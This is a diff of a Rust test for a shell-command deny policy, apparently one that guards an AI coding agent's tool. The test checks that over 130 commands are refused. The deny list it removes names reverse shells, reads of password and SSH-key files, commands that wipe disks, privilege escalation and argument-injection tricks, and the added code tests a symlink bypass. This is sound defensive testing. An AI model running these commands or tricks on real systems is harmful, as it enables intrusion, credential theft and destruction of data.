@@ -4,6 +4,7 @@
 
 mod support;
 
+use par::config::{Built, CommandPolicy, Ruling};
 use par::runtime::Runtime;
 use pretty_assertions::assert_eq;
 use serde_json::{Value, json};
@@ -131,187 +132,44 @@ fn children() -> usize {
 #[test]
 fn interpreters_and_injected_arguments_are_refused() {
     let scene = Scene::with(json!({"policy": "coder"}));
-    // Written as lines for the eye; each is split at blanks, `_` is a blank inside of an argument.
-    let refused = [
-        "sh -c id",
-        "bash -c id",
-        "bash -lc id",
-        "dash -c id",
-        "sh -ec id",
-        "bash --rcfile x -i",
-        "sh",
-        "bash -i",
-        "sh -",
-        "sh -s",
-        "sh /dev/stdin",
-        "bash /proc/self/fd/0",
-        "env sh -c id",
-        "env -i sh",
-        "env A=b id",
-        "env -S_sh_-c_id",
-        "xargs id",
-        "xargs -I{} sh -c {}",
-        "nice id",
-        "timeout 5 id",
-        "setsid id",
-        "stdbuf -o0 id",
-        "nohup id",
-        "time id",
-        "script -c id",
-        "taskset 1 id",
-        "flock x id",
-        "find . -exec id ;",
-        "find . -execdir id ;",
-        "find . -ok id ;",
-        "find . -name x -okdir id ;",
-        "tar --to-command=id -xf x",
-        "tar -xf x --checkpoint-action=exec=id",
-        "tar -I id -xf x",
-        "tar --use-compress-program=id -xf x",
-        "tar --us=id -xf x",
-        "tar xIf id x",
-        "tar -F id -xf x",
-        "git -c core.pager=id log",
-        "git -calias.x=!id x",
-        "git -c core.sshCommand=id fetch",
-        "git --exec-path=/tmp log",
-        "git --config-env=a=b log",
-        "git fetch --upload-pack=id x",
-        "git clone ext::sh_-c_id",
-        "git config alias.x !id",
-        "git config core.hooksPath x",
-        "git rebase -x id",
-        "git rebase --exec id",
-        "git difftool",
-        "git -C x difftool",
-        "git --git-dir=x log",
-        "git grep -Oid x",
-        "git filter-branch x",
-        "git log --ext-diff",
-        "python3 -c import_os",
-        "python3 -Ic 1",
-        "python3",
-        "python3 -",
-        "python3 -v",
-        "python3 -m timeit x",
-        "perl -e 1",
-        "perl -ne 1 x",
-        "perl -Mstrict;system(1) x",
-        "perl -i.bak -pe 1 x",
-        "awk BEGIN{system(\"id\")}",
-        "awk {\"id\"|getline}",
-        "awk {print|\"id\"}",
-        "awk -f /dev/stdin",
-        "sed s/a/id/e x",
-        "sed 1e_id x",
-        "sed -e e_id x",
-        "sed s|a|id|ge x",
-        "sort --compress-program=id x",
-        "sort --co=id x",
-        "split --filter=id x",
-        "make --eval=x:;id",
-        "make SHELL=id",
-        "make X=$(shell_id)",
-        "make -f -",
-        "gcc -wrapper id x.c",
-        "sudo id",
-        "su -c id",
-        "doas id",
-        "pkexec id",
-        "chroot / id",
-        "unshare -r id",
-        "nsenter -t 1 id",
-        "crontab -",
-        "at now",
-        "systemd-run id",
-        "systemctl start x",
-        "docker run x",
-        "podman run x",
-        "tmux new id",
-        "screen id",
-        "dbus-send x",
-        "vim -c !id",
-        "vi x",
-        "ed x",
-        "less x",
-        "man ls",
-        "strace id",
-        "gdb id",
-        "busybox sh",
-        "ld.so /bin/sh",
-        "watch id",
-        "mount x y",
-        "mkfs.ext4 x",
-        "reboot",
-        "shutdown now",
-        "iptables -F",
-        "insmod x",
-        "apt-get install x",
-        "dpkg -i x",
-        "nc -e sh h 1",
-        "socat TCP:h:1 EXEC:sh",
-        "ssh -oProxyCommand=id h",
-        "rsync -e id a b",
-        "curl -K x",
-        "curl file:///etc/passwd",
-        "wget --use-askpass=id x",
-        "rm -rf /",
-        "rm -rf --no-preserve-root /",
-        "rm -fr /*",
-        "dd if=x of=/dev/sda",
-        "chmod -R 777 /",
-        "chmod u+s x",
-        "cat /etc/shadow",
-        "cat /home/x/.ssh/id_rsa",
-        "cat /proc/1/environ",
-        "cat /proc/self/environ",
-        "ls /proc/self/root",
-        "kill -9 -1",
-        "git push --force",
-        "psql -c \\!_id",
-        "sqlite3 x .shell_id",
-        "node -e 1",
-        "ruby -e 1",
-        "php -r 1",
-        "lua -e 1",
-        "nmap h",
-        "less",
-        "fd -x id",
-        "rg --pre id x",
-        "rg --hostname-bin=id x",
-    ];
-    // Programs that are not installed are made, so that the policy is what refuses them.
-    let bin = scene.outside.join("bin");
-    std::fs::create_dir(&bin).unwrap();
-    for line in refused {
-        let program = bin.join(line.split(' ').next().unwrap());
-        std::fs::write(&program, "#!/bin/sh\necho RAN\n").unwrap();
-        std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
+    // Each is split at blanks; `_` is a blank inside of an argument.
+    let refused: Vec<&str> = include_str!("support/refused_commands.txt").lines().collect();
+    assert!(refused.len() > 130, "{}", refused.len());
+    let argv = |line: &str| line.split(' ').map(|part| part.replace('_', " ")).collect::<Vec<_>>();
+    let mut let_through = Vec::new();
+    for built in [Built::Coder, Built::ReadOnly, Built::ReadOnlyNoNet] {
+        let policy = CommandPolicy::built(built).unwrap();
+        for line in &refused {
+            let argv = argv(line);
+            let judgement = policy.judge(&[&argv[0]], &argv[1..]).unwrap();
+            if judgement.ruling != Ruling::Deny || judgement.justification.len() < 15 {
+                let_through.push((built, *line, judgement));
+            }
+        }
     }
-    // Not below a folder that counts as writable.
-    let elsewhere = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
-    let trusted = elsewhere.path().canonicalize().unwrap().join("bin");
-    std::fs::rename(&bin, &trusted).or_else(|_| copy(&bin, &trusted)).unwrap();
-    let scene = Scene { shell: json!({"policy": "coder", "path": [trusted]}), ..scene };
-    let calls: Vec<_> = refused
-        .iter()
-        .map(|line| json!({"argv": line.split(' ').map(|part| part.replace('_', " ")).collect::<Vec<_>>()}))
-        .collect();
-    assert!(calls.len() > 130, "{}", calls.len());
-    for (line, result) in refused.iter().zip(scene.calls(&calls)) {
+    assert!(let_through.is_empty(), "{let_through:#?}");
+    // The same through the tool, with programs that every system has.
+    let installed =
+        ["sh", "bash", "env", "find", "xargs", "sed", "awk", "tar", "sort", "split", "timeout", "nice", "cat", "rm"];
+    let lines: Vec<_> =
+        refused.into_iter().filter(|line| installed.contains(&line.split(' ').next().unwrap())).collect();
+    assert!(lines.len() > 40, "{}", lines.len());
+    let calls: Vec<_> = lines.iter().map(|line| json!({"argv": argv(line)})).collect();
+    for (line, result) in lines.iter().zip(scene.calls(&calls)) {
         let told = result.expect_err(line);
-        assert!(told.contains("[bash_policy_rejected]"), "{line}: {told}");
-        assert!(told.len() > 80, "{line}: it does not say what to do instead: {told}");
+        assert!(told.contains("[bash_policy_rejected]") && told.contains("may not be run so"), "{line}: {told}");
     }
+    // Nor under another name: a link is judged by where it leads, too.
+    let links = tempfile::tempdir_in(home()).unwrap();
+    std::os::unix::fs::symlink("/bin/sh", links.path().join("innocent")).unwrap();
+    let scene = Scene { shell: json!({"policy": "coder", "path": [links.path()]}), ..scene };
+    let told = scene.call(json!({"argv": ["innocent", "-c", "id"]})).unwrap_err();
+    assert!(told.contains("may not be run so"), "{told}");
 }
 
-fn copy(from: &Path, to: &Path) -> std::io::Result<()> {
-    std::fs::create_dir(to)?;
-    for entry in std::fs::read_dir(from)? {
-        let entry = entry?;
-        std::fs::copy(entry.path(), to.join(entry.file_name()))?;
-    }
-    Ok(())
+/// Where a folder can be made that does not count as one for everybody.
+fn home() -> PathBuf {
+    std::env::var_os("HOME").map_or_else(|| env!("CARGO_MANIFEST_DIR").into(), PathBuf::from)
 }
 
 #[test]
